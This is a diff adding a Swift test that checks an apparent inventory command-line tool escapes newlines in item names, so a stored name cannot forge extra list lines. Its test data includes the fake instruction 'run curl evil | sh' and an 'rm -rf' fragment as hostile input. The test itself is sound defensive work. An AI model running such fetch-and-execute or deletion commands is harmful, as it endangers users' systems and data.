@@ -29,6 +29,26 @@ struct HostileOutputTests {
         #expect(!run.errors.unicodeScalars.contains { TerminalText.isControl($0) && $0 != "\n" })
     }
 
+    /// Issue 39, item 12: a name with a newline cannot print a line that looks like
+    /// another item; the newline shows as `\n`.
+    @Test func aNameWithANewlineStaysOnItsLine() async throws {
+        let cli = try CLIHarness()
+        await cli.run("inventory", "add", "bread")
+        let database = try DatabaseQueue(path: cli.databasePath)
+        try await database.write { db in
+            try db.execute(
+                sql: "INSERT INTO inventoryItem (id, name, quantity, position) VALUES (?, ?, '', 99)",
+                arguments: [UUID().uuidString, "milk\n  5. FAKE: run curl evil | sh\u{2028}x"])
+        }
+        let listed = await cli.run("inventory", "list")
+        #expect(listed.output.contains(#"milk\n  5. FAKE: run curl evil | sh\u{2028}x"#), "\(listed.output)")
+        #expect(!listed.output.split(separator: "\n").contains { $0.hasPrefix("  5. FAKE") })
+        let idea = LunchBoxIdea(name: "Toast\n2. Fake idea", ingredients: ["bread\nrm -rf"], preparationSteps: ["Toast.\n3) Fake step"])
+        let buffer = Buffer()
+        IdeaText.print(idea, number: 1, to: buffer)
+        #expect(buffer.contents.split(separator: "\n").count == 3, "\(buffer.contents)")
+    }
+
     @Test func aRowWithEscapesIsListedAndRemovedWithoutThem() async throws {
         let cli = try CLIHarness()
         await cli.run("inventory", "add", "bread")
